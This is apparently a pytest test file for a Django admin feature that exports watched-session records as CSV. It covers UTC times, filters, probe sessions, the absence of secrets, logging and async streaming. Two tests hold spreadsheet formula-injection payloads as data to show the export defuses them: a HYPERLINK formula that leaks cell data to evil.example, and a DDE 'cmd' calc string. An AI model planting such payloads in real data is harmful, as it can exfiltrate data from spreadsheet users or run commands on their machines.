"""The export of records as comma-separated values."""

from __future__ import annotations

import csv
import io
import logging
import weakref
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth.models import User
from django.test import AsyncClient, Client
from msgspec import to_builtins

from idlewatch.admin import export
from idlewatch.core.clock import as_datetime
from idlewatch.models import WatchedSession
from tests.conftest import START
from tests.support.watches import POLICY, sign_in_many
from tests.unit.admin.operators import staff
from tests.unit.live.operators import CHROME

pytestmark = pytest.mark.django_db(transaction=True)

EXPORT = "/admin/idlewatch/watchedsession/export/"


@pytest.fixture
def auditor(clock: Any) -> Client:
    return auditing()


def auditing(client: type[Any] = Client) -> Any:
    """Sign in an auditor; their own session is not exported."""
    auditor = staff("view_watchedsession", client=client)
    WatchedSession.objects.all().delete()
    return auditor


def record(watch_id: str, at: datetime = datetime(2026, 3, 29, 1, 30, tzinfo=UTC), **fields: Any) -> WatchedSession:
    """Keep a record; the clocks of Central Europe are put forward half an hour before."""
    given = {"username": "ann", "started": at, "signed_in": at, "last_active": at, "limits": to_builtins(POLICY)}
    return WatchedSession.objects.create(id=watch_id, **(given | fields))


def exported(client: Client, query: str = "") -> list[dict[str, str]]:
    response: Any = client.get(f"{EXPORT}{query}")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.getvalue().decode(), newline="")))


def test_holds_what_is_known_of_a_session_with_times_in_utc_wherever_the_site_is(auditor: Client, settings: Any):
    settings.TIME_ZONE = "Europe/Berlin"
    at = datetime(2026, 3, 29, 1, 30, tzinfo=UTC)
    fields = {"address": "10.0.0.1", "user_agent": CHROME, "warnings": 2, "extensions": 1, "held_seconds": 12.5}
    name = 'Zoë "Zo", 張\nbob'
    record("w1", at, username=name, ended=at + timedelta(minutes=5), reason="revoked", ended_by_name="op", **fields)
    WatchedSession.objects.filter(pk="w1").update(impersonator_name="boss")
    assert exported(auditor) == [
        {
            "session": "w1",
            "user": name,
            "device": "Chrome 131 on Windows",
            "user_agent": CHROME,
            "address": "10.0.0.1",
            "started": "2026-03-29T01:30:00.000Z",
            "signed_in": "2026-03-29T01:30:00.000Z",
            "last_active": "2026-03-29T01:30:00.000Z",
            "ended": "2026-03-29T01:35:00.000Z",
            "reason": "revoked",
            "ended_by": "op",
            "warnings": "2",
            "extensions": "1",
            "held_seconds": "12.5",
            "impersonator": "boss",
            "probe": "false",
        }
    ]


def test_is_a_file_named_by_the_day_and_without_records_a_header_alone(auditor: Client):
    response = auditor.get(EXPORT)
    assert response.getvalue().decode() == ",".join(export.COLUMNS) + "\r\n"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    day = f"{datetime.now(UTC):%Y-%m-%d}"
    assert response.headers["Content-Disposition"] == f'attachment; filename="sessions-{day}.csv"'


def test_holds_what_the_list_shows_and_all_pages_of_it(auditor: Client):
    for number in range(60):
        record(f"a{number:02}", username="ann")
    record("b1", username="bob", reason="idle", ended=as_datetime(START))
    assert len(exported(auditor, "?p=99")) == 61
    assert [row["session"] for row in exported(auditor, "?q=bob")] == ["b1"]
    assert [row["session"] for row in exported(auditor, "?state=ended&reason__exact=idle")] == ["b1"]
    assert exported(auditor, "?q=bob&state=live") == []
    assert {row["ended"] for row in exported(auditor, "?state=live")} == {""}
    assert [row["session"] for row in exported(auditor, "?o=0.-3")][-1] == "b1"


def test_a_probe_of_the_site_is_named_and_found(auditor: Client):
    record("w1")
    record("probe:9Qw2_-", user_agent="idlewatch-doctor")
    for query in ("?q=probe:9Qw2_-", "?q=doctor"):
        (row,) = exported(auditor, query)
        assert (row["session"], row["device"], row["probe"]) == ("probe:9Qw2_-", "Check of this site", "true")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_cell_is_a_formula(auditor: Client, monkeypatch: pytest.MonkeyPatch, first: str):
    # What a user agent calls itself is part of the name of a device.
    monkeypatch.setattr(export, "device_name", lambda _, user_agent: user_agent)
    evil = f'{first}HYPERLINK("http://evil.example/?"&A1,"x")'
    texts = {"username": evil, "user_agent": evil, "address": evil[:64], "ended_by_name": evil}
    record(evil[:32], reason="revoked", ended=as_datetime(START), **texts)
    (row,) = exported(auditor)
    assert {name: text for name, text in row.items() if "HYPERLINK" in text} == {
        "session": f"'{evil[:32]}",
        "user": f"'{evil}",
        "device": f"'{evil}",
        "user_agent": f"'{evil}",
        "address": f"'{evil[:64]}",
        "ended_by": f"'{evil}",
    }


@pytest.mark.parametrize("divider", [";", "; ", "\t", "|", "\n", "\r\n"])
def test_no_part_of_a_cell_is_a_formula_where_something_else_divides_cells(auditor: Client, divider: str):
    """In much of Europe a spreadsheet divides cells at semicolons, and lines within those that are not quoted whole."""
    record("w1", user_agent=f"Mozilla/5.0 (X11{divider}=cmd|' /C calc'!A0; rv:1-2)")
    text = auditor.get(EXPORT).getvalue().decode()
    delimiter = divider[0] if divider.strip("\r\n") else ";"
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith("=")]
    assert exported(auditor)[0]["user_agent"].replace("'=", "=").endswith("; rv:1-2)")


@pytest.mark.rule("R23")
def test_holds_neither_a_key_nor_a_digest(auditor: Client):
    (watched,) = sign_in_many(1)
    told = auditor.get(EXPORT).getvalue().decode()
    kept = WatchedSession.objects.get(pk=watched.id)
    assert watched.id in told
    # The tests' ids are made of keys.
    told = told.replace(watched.id, "")
    assert not [each for each in (watched.key, kept.session_digest, kept.auth_digest) if each in told]


def test_is_logged(auditor: Client, caplog: pytest.LogCaptureFixture):
    op = User.objects.get(username="op")
    with caplog.at_level(logging.INFO, logger="idlewatch"):
        auditor.get(f"{EXPORT}?q=ann%0Aforged")
    (line,) = [entry.getMessage() for entry in caplog.records if "records_exported" in entry.getMessage()]
    assert line == f'records_exported user={op.pk} query="q=ann%0Aforged"'


async def test_is_streamed_under_asgi(clock: Any):
    auditor = await sync_to_async(auditing)(AsyncClient)
    for number in range(3):
        await sync_to_async(record)(f"w{number}")
    response = await auditor.get(EXPORT)
    assert response.is_async
    told = b"".join([part async for part in response.streaming_content]).decode()
    assert len(told.splitlines()) == 4


async def test_each_part_is_a_batch_and_the_last_is_no_longer_in_memory(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(export, "BATCH_SIZE", 2)
    for number in range(5):
        await sync_to_async(record)(f"w{number}")
    listed, parts, kept, row_of = WatchedSession.objects.order_by("pk"), [], [], export.row_of
    records = weakref.WeakSet[WatchedSession]()

    def recorded(row: WatchedSession) -> tuple[object, ...]:
        records.add(row)
        return row_of(row)

    monkeypatch.setattr(export, "row_of", recorded)
    async for part in export.achunks(listed):
        parts.append(part)
        kept.append(len(records))
    assert [len(part.splitlines()) for part in parts] == [1, 2, 2, 1]
    assert max(kept) <= export.BATCH_SIZE
    assert parts == await sync_to_async(list)(export.chunks(listed))
